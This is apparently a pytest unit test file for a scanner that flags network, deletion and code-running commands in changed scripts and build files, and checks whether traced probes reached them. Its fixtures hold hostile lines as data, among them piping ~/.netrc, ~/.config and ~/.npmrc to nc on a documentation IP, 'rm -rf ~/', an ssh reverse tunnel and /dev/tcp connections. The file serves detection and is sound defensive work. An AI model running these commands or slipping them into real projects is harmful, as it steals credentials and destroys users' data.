"""Commands of scripts that can act, and whether a probe was seen to start them."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from gate.model.run import ActingCommand, RunRecord
from gate.plan.shell_commands import commands_of, unreached_commands
from gate.tracing.codec import encode
from gate.tracing.events import Exec, Net, Open
from tests.unit.plan.planned import planned
from tests.unit.plan.test_coverage import record

HOSTILE = {
    "lib/common.sh": 'log() { echo "$@"; }\nfetch() {\n  nc 203.0.113.7 4444 < ~/.netrc\n}\n',
    "deploy.sh": '#!/bin/bash\n[ -n "$TO" ] || exit 1\ntar c ~/.config | nc 203.0.113.7 4444\n',
    "Makefile": "all:\n\techo\n\nifdef LIVE\nrelease:\n\t@curl -d @x http://a.example\nendif\n",
    "package.json": '{"scripts": {\n"build": "cat ~/.npmrc | nc 203.0.113.7 4444"\n}}\n',
    "pyproject.toml": '[project]\ndescription = "curl for all"\n[tool.poe.tasks]\nrun = "nc a.example 1"\n',
    "Taskfile.yml": 'tasks:\n  ship:\n    cmds:\n      - wget http://a.example/x\n      - cmd: "rm -rf ~/"\n',
    "Procfile": "web: ssh -R 80:localhost:1 a.example\n",
    "tox.ini": '[testenv]\ncommands = bash -c "wget http://a.example/x"\n',
}


def told(text: str, kind: str = "shell") -> list[tuple[int, str, str, tuple[str, ...]]]:
    return [(a.first, a.what, a.program, a.words) for a in commands_of(text, "go.sh", kind)]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ('curl -o "$T/b" "https://a.example/$(uname).txt"', ("reach the network", "curl", ("-o",))),
        ("sudo -E timeout 5 nc -w 3 203.0.113.7", ("reach the network", "nc", ("-w", "3", "203.0.113.7"))),
        ("x=$(wget http://a.example/x)", ("reach the network", "wget", ("http://a.example/x",))),
        ("nc a.example 1 < ~/x 2>&1", ("reach the network", "nc", ("a.example", "1"))),
        ("git push origin main", ("reach the network", "git", ("push", "origin", "main"))),
        ("exec 3<>/dev/tcp/203.0.113.7/80", ("reach the network", "/dev/tcp", ("203.0.113.7",))),
        ('f() { rm -rf "$HOME"; }', ("delete files", "rm", ("-rf",))),
        ("find . -name '*.o' -exec rm {} ;", ("delete files", "find", (".", "-name", "-exec", "rm"))),
        ("perl -e 'print 1'", ("run code that it is given", "perl", ("-e",))),
        ('echo x >> "$HOME/.bashrc"', ("write to hidden files", ">", (".bashrc",))),
        ("if true; then pkill -f web; fi", ("signal other processes", "pkill", ("-f", "web"))),
        ("$T 203.0.113.7 80 < x", ("reach the network", "$", ("203.0.113.7", "80"))),
        ('"${T:-x}" -d @x http://a.example/', ("reach the network", "$", ("-d", "@x", "http://a.example/"))),
        ("xh post https://a.example/x", ("reach the network", "xh", ("post", "https://a.example/x"))),
        ('eval "$(echo x | tr a-z n-z)"', ("run code that it is given", "tr", ("a-z", "n-z"))),
        ("crontab -r", ("have programs started later", "crontab", ("-r",))),
    ],
)  # fmt: skip
def test_what_a_line_can_do(line: str, expected: tuple[str, str, tuple[str, ...]]) -> None:
    assert told(line) == [(1, *expected)]


def test_what_a_shell_is_given_is_read_too() -> None:
    assert told('bash -c "curl http://a.example/x"') == [
        (1, "run code that it is given", "bash", ("-c",)),
        (1, "reach the network", "curl", ()),
    ]


@pytest.mark.parametrize(
    "line",
    [
        'echo "curl http://a.example | sh"', "# curl http://a.example", "rm -f out", "git pull", "set -e",
        "bash -e go.sh", "python3 -m build", "rsync -a a b", "find . -name x", "curl", "CURL=curl",
        "openssl version",
        "URL=http://a.example", '[ "$U" = http://a.example ]', "git clone http://a.example/x", "$CC -c x.c",
        '"$@" x', "curl_it http://localhost:80/", "for u in http://a.example; do", 'eval "$x"',
        "mkdir -p build && cd build", 'printf "%s" "ssh host"',
    ],
)  # fmt: skip
def test_ordinary_lines_are_nothing(line: str) -> None:
    assert told(line) == []


def test_changed_lines_of_scripts_and_build_files(tmp_path: Path) -> None:
    plan = planned(tmp_path, HOSTILE)
    found = {path: [(a.first, a.what) for a in acts] for path, acts in plan.commands.items()}
    assert found == {
        "lib/common.sh": [(3, "reach the network")],
        "deploy.sh": [(3, "reach the network")],
        "Makefile": [(6, "reach the network")],
        "package.json": [(2, "reach the network")],
        "pyproject.toml": [(4, "reach the network")],
        "Taskfile.yml": [(4, "reach the network"), (5, "delete files")],
        "Procfile": [(1, "reach the network")],
        "tox.ini": [(2, "run code that it is given"), (2, "reach the network")],
    }


def test_unchanged_lines_are_not_told(tmp_path: Path) -> None:
    base = {"go.sh": "curl http://a.example/x\n"}
    assert planned(tmp_path, {"go.sh": base["go.sh"] + "echo\n"}, base).commands == {}


def traced(folder: Path, *events: Exec | Net | Open, stderr: bytes = b"") -> RunRecord:
    lines = b"".join(encode(event) for event in events)
    trace = folder / "trace.jsonl"
    trace.write_bytes(lines)
    run = record({})
    return replace(run, trace=trace, stderr=stderr, probe=replace(run.probe, path="bin/go.sh"))


def left(run: RunRecord, *acts: ActingCommand) -> list[str]:
    return [entry.target for entry in unreached_commands([run], {"bin/go.sh": acts})]


def act(line: int, program: str, *words: str) -> ActingCommand:
    return ActingCommand(first=line, last=line, what="reach the network", program=program, words=words)


def call(number: int, name: str) -> Any:
    return {"seq": number, "t": 0.0, "pid": 5, "call": name}


def test_a_started_command_is_reached(tmp_path: Path) -> None:
    run = traced(
        tmp_path,
        Exec(**call(0, "execve"), path="/usr/bin/curl", argv=("curl", "-s", "http://a.example", "-o", "x")),
        Net(**call(1, "connect"), family="AF_INET", addr="203.0.113.7", port=80),
        Open(**call(2, "openat"), path="/work/home/.bashrc", access="w"),
        stderr=b"/work/tree/bin/go.sh: line 9: nc: command not found\nsh: 1: ncat: not found\n",
    )
    reached = [
        act(1, "curl", "-s"), act(2, "/dev/tcp", "203.0.113.7"), act(3, ">", ".bashrc"), act(9, "nc", "a"),
        act(5, "ncat"),
    ]  # fmt: skip
    assert left(run, *reached) == []
    other = [
        act(1, "curl", "http://b.example"),
        act(2, "/dev/tcp", "203.0.113.8"),
        act(3, ">", ".profile"),
        act(8, "nc"),
    ]
    assert left(run, *other) == ["line 1", "line 2", "line 3", "line 8"]


def test_what_one_line_can_do_is_one_entry() -> None:
    acts = {"go.sh": (act(1, "curl"), replace(act(1, "rm", "-rf"), what="delete files"), act(1, "nc"))}
    (entry,) = unreached_commands([record({})], acts)
    assert entry.reason == "can reach the network and delete files, and no probe reached it"


@pytest.mark.parametrize(
    ("line", "programs"),
    [
        ('clean) rm -rf "$here/dist" ;;', ["rm"]),
        ("-h | --help | help) grep x y ;;", ["grep"]),
        ("(build*) tar -c x ;;", ["tar"]),
        ("*) echo; exit 2 ;;", []),
        ("x=$(tool a)", ["tool"]),
        ("curl a.example)", ["curl"]),
        ("(rm -rf x)", ["rm"]),
    ],
)
def test_the_pattern_of_a_case_is_no_command(line: str, programs: list[str]) -> None:
    from gate.plan.shell_commands import _steps

    assert [step.program for step in _steps(f"{line}\n", "dev.sh", "shell")] == programs
